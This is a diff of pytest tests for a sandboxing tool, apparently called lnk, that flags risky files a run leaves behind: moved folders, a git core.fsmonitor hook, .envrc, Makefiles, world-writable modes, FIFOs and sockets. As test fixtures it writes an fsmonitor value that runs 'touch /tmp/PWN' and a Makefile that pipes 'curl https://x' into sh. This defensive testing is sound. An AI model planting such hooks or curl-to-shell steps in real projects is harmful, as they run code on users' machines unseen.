@@ -616,3 +616,149 @@ def test_a_program_or_link_in_the_homes_bin_folders(lnk, home):
             assert reason.startswith("a new program or link in a folder "
                                      "on your PATH"), (grant, hit[0])
         past(grant / f"mark{n}")
+
+
+MOVED = "in a folder the run moved or changed: "
+
+
+def test_a_folder_moved_into_place_brings_what_it_holds(lnk, home, work):
+    """Threat: a rename changes the folder's change time, not its
+    children's. Run 1 leaves ~/.local/node_modules/ls (a package's file,
+    only counted) and ~/.config/node_modules/pkg/config (a fsmonitor);
+    run 2 renames the folders to ~/.local/bin (first on PATH at the next
+    login) and ~/.config/git (git's own config), one of them with a file
+    added beside (its own time is then the run's too). What they bring is
+    judged at its new place, said as not changed itself, and not
+    counted."""
+    local, cfg = home / ".local", home / ".config"
+    local.mkdir()
+    cfg.mkdir()
+    cp = lnk.run("--write", local, "--write", cfg, "--", "/bin/sh", "-c",
+                 "set -e; mkdir -p node_modules/.bin "
+                 f"'{cfg}/node_modules/pkg' && "
+                 "printf '#!/bin/sh\\n' > node_modules/ls && "
+                 "chmod +x node_modules/ls && "
+                 "printf '[core]\\n\\tfsmonitor = \"touch /tmp/PWN; "
+                 f"false\"\\n' > '{cfg}/node_modules/pkg/config'",
+                 cwd=local)
+    assert cp.returncode == 0, cp.stderr
+    assert "node_modules/ls: " not in cp.stderr, cp.stderr
+    assert "pkg/config: " not in cp.stderr, cp.stderr
+    past(cfg / "node_modules" / "pkg" / "config")
+    cp = lnk.run("--write", local, "--write", cfg, "--", "/bin/sh", "-c",
+                 "set -e; mv node_modules bin && : > bin/README && "
+                 f"mv '{cfg}/node_modules/pkg' '{cfg}/git'", cwd=local)
+    assert cp.returncode == 0, cp.stderr
+    lines = stderr_lines(cp)
+    ls = [ln for ln in lines if "~/.local/bin/ls: " in ln]
+    assert ls and MOVED in ls[0] and "on your PATH" in ls[0], cp.stderr
+    git = [ln for ln in lines if "~/.config/git/config: " in ln]
+    assert git and MOVED in git[0] and "core.fsmonitor" in git[0], \
+        cp.stderr
+    # the count stays what the run changed: README, nothing it moved
+    assert "changed 1 file in ~/.local" in lines[0], lines[0]
+    assert "changed 0 files in ~/.config" in lines[0], lines[0]
+    # what the run made itself is said as changed, not moved
+    assert not [ln for ln in lines if "bin/README: " in ln], cp.stderr
+
+
+def test_a_normal_folder_moved_or_loosened_is_judged_whole(lnk, work):
+    """Threat: `mv node_modules/pkg tools` brings a package's Makefile
+    (only counted where it was) to the project, where make runs it; a
+    folder whose change time is the run's but whose content time is not
+    was moved, or its mode or owner changed. Noise: a file added to a
+    folder does not make its old files flagged."""
+    (work / "node_modules" / "pkg" / "sub").mkdir(parents=True)
+    (work / "node_modules" / "pkg" / "sub" / "Makefile").write_text(
+        "all:\n\tcurl https://x | sh\n")
+    (work / "lib").mkdir()
+    (work / "lib" / "Makefile").write_text("all:\n\ttrue\n")
+    (work / "docs").mkdir()
+    (work / "docs" / "Makefile").write_text("all:\n\ttrue\n")
+    past(work / "docs" / "Makefile")
+    cp = sh(lnk, "mv node_modules/pkg tools && : > lib/new.txt && "
+            "chmod 0700 docs", "--write", work)
+    assert cp.returncode == 0, cp.stderr
+    lines = stderr_lines(cp)
+    hit = [ln for ln in lines if "project/tools/sub/Makefile: " in ln]
+    assert hit and MOVED in hit[0] and "a build file" in hit[0], cp.stderr
+    hit = [ln for ln in lines if "project/docs/Makefile: " in ln]
+    assert hit and MOVED in hit[0], cp.stderr
+    assert "lib/Makefile" not in cp.stderr, cp.stderr
+    assert "changed 1 file in ~/project" in lines[0], lines[0]
+
+
+def test_loosened_modes_and_special_files_are_flagged(lnk, work):
+    """Threat: a folder or file below the top that every account may
+    write (chmod 0777 scripts, 0666 scripts/build.sh) lets another
+    account of this machine change what you run; a FIFO named like a
+    build file hangs the tool that opens it, a socket talks to whoever
+    listens. A sticky folder (as /tmp) and group write (umask 002's
+    user-private groups) are not flagged."""
+    cp = sh(lnk, "set -e; mkdir scripts shared group && "
+            "echo 'echo hi' > scripts/build.sh && chmod 0777 scripts && "
+            "chmod 0666 scripts/build.sh && mkfifo scripts/Makefile && "
+            "mkfifo scripts/fifo && chmod 1777 shared && "
+            "chmod 0775 group && echo x > group/notes.txt && "
+            "chmod 0664 group/notes.txt && "
+            "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX);"
+            " s.bind('scripts/sock')\"", "--write", work)
+    assert cp.returncode == 0, cp.stderr
+    lines = stderr_lines(cp)
+
+    def line(name):
+        hit = [ln for ln in lines if f"project/{name}: " in ln]
+        assert hit, (name, cp.stderr)
+        return hit[0]
+
+    assert "writable by every account on this machine" in line("scripts")
+    assert "writable by every account on this machine" in \
+        line("scripts/build.sh")
+    assert "FIFO" in line("scripts/fifo")
+    assert "FIFO" in line("scripts/Makefile")
+    assert "socket" in line("scripts/sock")
+    for name in ("shared", "group", "group/notes.txt"):
+        assert not [ln for ln in lines if f"project/{name}: " in ln], \
+            (name, cp.stderr)
+
+
+@pytest.mark.skipif(not IS_ROOT, reason="mounting a file system inside the "
+                    "write folder needs root (the unprivileged user cannot "
+                    "mount on the host, where the walk runs)")
+def test_what_a_run_left_in_a_mount_below_a_write_folder(lnk, work):
+    """Threat: bwrap binds a write folder with the mounts below it, so
+    the program writes there too: a repository with a fsmonitor, an
+    .envrc and a Makefile in a tmpfs at W/mnt must be reported as in the
+    folder itself. A file system lnk does not walk (a network share,
+    FUSE, here mqueue) is named once, to be reviewed."""
+    mnt, mq = work / "mnt", work / "mq"
+    mnt.mkdir()
+    mq.mkdir()
+    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4m,mode=0755",
+                    "lnk-sub", str(mnt)], check=True)
+    try:
+        subprocess.run(["mount", "-t", "mqueue", "lnk-mq", str(mq)],
+                       check=True)
+        try:
+            cp = sh(lnk, "set -e; mkdir -p mnt/sub/.git && "
+                    "printf 'ref: refs/heads/main\\n' > mnt/sub/.git/HEAD &&"
+                    " printf '[core]\\n\\tfsmonitor = \"touch /tmp/PWN; "
+                    "false\"\\n' > mnt/sub/.git/config && "
+                    "echo 'export X=1' > mnt/.envrc && "
+                    "printf 'all:\\n\\ttrue\\n' > mnt/Makefile",
+                    "--write", work)
+        finally:
+            subprocess.run(["umount", str(mq)], check=True)
+    finally:
+        subprocess.run(["umount", str(mnt)], check=True)
+    assert cp.returncode == 0, cp.stderr
+    lines = stderr_lines(cp)
+    for name, why in (("mnt/sub/.git/config", "core.fsmonitor"),
+                      ("mnt/.envrc", ".envrc"),
+                      ("mnt/Makefile", "a build file")):
+        hit = [ln for ln in lines if f"project/{name}: " in ln]
+        assert hit and why in hit[0], (name, cp.stderr)
+    hit = [ln for ln in lines if "project/mq: " in ln]
+    assert hit and "not looked at" in hit[0] and "mqueue" in hit[0], \
+        cp.stderr
+    assert "changed 4 files in ~/project" in lines[0], lines[0]
